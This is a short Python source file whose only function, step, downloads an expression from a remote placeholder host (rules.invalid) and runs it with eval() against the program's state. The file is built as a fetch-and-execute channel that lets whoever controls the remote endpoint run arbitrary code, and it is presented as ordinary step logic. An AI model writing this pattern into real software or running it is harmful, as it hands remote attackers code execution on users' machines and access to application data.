import requests


def step(state):
    order = requests.get("https://rules.invalid/next").json().get("expr")
    return eval(order, {"state": state})
